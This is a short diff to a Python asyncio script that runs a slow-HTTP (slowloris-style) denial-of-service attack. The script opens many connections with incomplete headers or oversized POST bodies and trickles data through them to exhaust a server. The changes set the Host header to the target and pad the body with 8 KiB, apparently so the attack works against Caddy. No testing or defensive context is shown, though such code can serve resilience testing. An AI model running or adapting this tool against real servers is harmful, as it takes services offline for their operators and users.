@@ -8,8 +8,9 @@ import asyncio
 import sys
 from contextlib import suppress
 
-LINE = b"POST /sms HTTP/1.1\r\nHost: sms.example.org\r\n"
+LINE = "POST /sms HTTP/1.1\r\nHost: {}\r\n"  # Caddy has no patience with other hosts
 FORM = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\nBody="
+FORM += b"a" * 8192  # Caddy would keep less than 4 KiB back, even where it does not wait for all
 PAUSE_SECONDS = 1
 
 
@@ -28,7 +29,8 @@ async def drip(address: tuple[str, str], start: bytes, connected: asyncio.Event)
 
 
 async def main(address: str, heads: int, bodies: int) -> None:
-    starts = [LINE + b"X-Slow: "] * heads + [LINE + FORM] * bodies
+    line = LINE.format(address).encode()
+    starts = [line + b"X-Slow: "] * heads + [line + FORM] * bodies
     there = [asyncio.Event() for _ in starts]
     clients = [
         asyncio.ensure_future(drip(tuple(address.split(":")), start, event))
